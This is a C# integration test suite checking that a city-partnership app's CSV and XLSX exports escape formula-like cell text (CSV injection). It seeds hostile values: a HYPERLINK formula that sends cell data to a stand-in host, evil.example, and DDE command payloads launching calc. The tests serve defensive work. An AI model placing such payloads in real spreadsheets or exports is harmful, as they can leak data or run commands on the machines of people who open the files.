using System.IO.Compression;
using System.Text;
using System.Xml.Linq;
using CityPairs.TestSupport;
using CityPairs.Web.Data.Seeding;
using CityPairs.Web.Features.Cities;
using CityPairs.Web.Features.Export;
using CityPairs.Web.Features.Partnerships;
using Microsoft.EntityFrameworkCore;

namespace CityPairs.IntegrationTests.Export;

/// <summary>
/// Text someone typed into a city can be opened later by someone else in a spreadsheet: a cell starting with "=",
/// "+", "-" or "@" must arrive as text, never as a formula (OWASP, CSV injection), in every export. Reading the
/// file back gives the original text, so an export still imports as the same records.
/// </summary>
public sealed class FormulaInjectionTests(PostgresDatabase database) : DatabaseTest(database)
{
    private const string Name = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Tarija\")";
    private const string Profile = "+cmd|' /C calc'!A0";
    private const string AdminArea = "@SUM(1+1)*cmd|' /C calc'!A0";
    private const string Quoted = "'=already quoted";

    private static readonly string[] Hostile = [Name, Profile, AdminArea, Quoted];

    private async Task SeedAsync()
    {
        await using var db = Database.CreateDbContext();
        await DemoData.SeedAsync(db);
        var tarija = await db.Cities.SingleAsync(c => c.Name == "Tarija");
        tarija.Name = Name;
        tarija.Profile = Profile;
        tarija.AdminArea = AdminArea;
        (await db.Cities.SingleAsync(c => c.Name == "Herent")).Profile = Quoted;
        await db.SaveChangesAsync();
    }

    private PortfolioExport Exporter() => new(
        Database.Factory, new CityService(Database.Factory, new CityFormValidator(), TestUsers.Administrator, Database.Rules()),
        new PartnershipService(Database.Factory, new PartnershipFormValidator(), TimeProvider.System, TestUsers.Administrator, Database.Rules()));

    /// <summary>Every cell's text as a spreadsheet program sees it in each worksheet, and whether any cell holds a formula.</summary>
    private static (List<string> Cells, bool AnyFormula) SheetCells(Stream xlsx)
    {
        xlsx.Position = 0;
        using var zip = new ZipArchive(xlsx, ZipArchiveMode.Read, leaveOpen: true);
        XNamespace main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
        var shared = zip.GetEntry("xl/sharedStrings.xml") is { } entry
            ? [.. XDocument.Load(entry.Open()).Descendants(main + "si").Select(si => string.Concat(si.Descendants(main + "t").Select(t => t.Value)))]
            : new List<string>();
        var cells = new List<string>();
        var anyFormula = false;
        foreach (var sheet in zip.Entries.Where(e => e.FullName.StartsWith("xl/worksheets/", StringComparison.Ordinal) && e.FullName.EndsWith(".xml", StringComparison.Ordinal)))
        {
            var xml = XDocument.Load(sheet.Open());
            anyFormula |= xml.Descendants(main + "f").Any();
            foreach (var c in xml.Descendants(main + "c"))
            {
                var text = c.Attribute("t")?.Value == "s"
                    ? shared[int.Parse(c.Element(main + "v")!.Value, System.Globalization.CultureInfo.InvariantCulture)]
                    : string.Concat(c.Descendants(main + "t").Select(t => t.Value)) + (c.Element(main + "v")?.Value ?? "");
                cells.Add(text);
            }
        }

        return (cells, anyFormula);
    }

    [Fact]
    public async Task A_city_csv_export_writes_formula_like_text_as_text_and_reads_back_as_typed()
    {
        await SeedAsync();
        var cities = await Exporter().CitiesAsync(new CityListQuery());
        using var file = new MemoryStream();

        await cities.WriteCsvAsync(file);

        var csv = Encoding.UTF8.GetString(file.ToArray());
        var rawCells = Table.CsvRecords(csv).SelectMany(r => r).ToList();
        foreach (var hostile in Hostile)
        {
            Assert.Contains("'" + hostile, rawCells);
            Assert.DoesNotContain(hostile, rawCells);
        }

        // Longitudes west of Greenwich stay numbers.
        Assert.Contains(rawCells, c => c.StartsWith('-') && double.TryParse(c, System.Globalization.CultureInfo.InvariantCulture, out _));
        Assert.Equal(cities.Rows, Table.ReadCsv(csv).Rows);
    }

    [Fact]
    public async Task The_city_xlsx_export_and_the_portfolio_workbook_hold_no_formula_and_read_back_as_typed()
    {
        await SeedAsync();
        var cities = await Exporter().CitiesAsync(new CityListQuery());
        using var citiesXlsx = new MemoryStream();
        await cities.WriteXlsxAsync(citiesXlsx, "cities");
        using var workbook = new MemoryStream();
        await new PortfolioWorkbook(Database.Factory, TestUsers.Administrator, Database.Rules()).WriteAsync(workbook);

        foreach (var file in new[] { citiesXlsx, workbook })
        {
            var (cells, anyFormula) = SheetCells(file);
            Assert.False(anyFormula);
            Assert.Contains("'" + Name, cells);
            Assert.Contains("'" + Quoted, cells);
            Assert.DoesNotContain(cells, c => c.Length > 0 && "=+@".Contains(c[0], StringComparison.Ordinal));
        }

        citiesXlsx.Position = 0;
        Assert.Equal(cities.Rows, Table.ReadXlsx(citiesXlsx).Rows);
        workbook.Position = 0;
        var back = PortfolioWorkbook.Read(workbook)["cities"];
        var nameColumn = back.Headers.ToList().IndexOf("name");
        var profileColumn = back.Headers.ToList().IndexOf("profile");
        Assert.Contains(back.Rows, r => r[nameColumn] == Name && r[profileColumn] == Profile);
        Assert.Contains(back.Rows, r => r[profileColumn] == Quoted);
    }
}
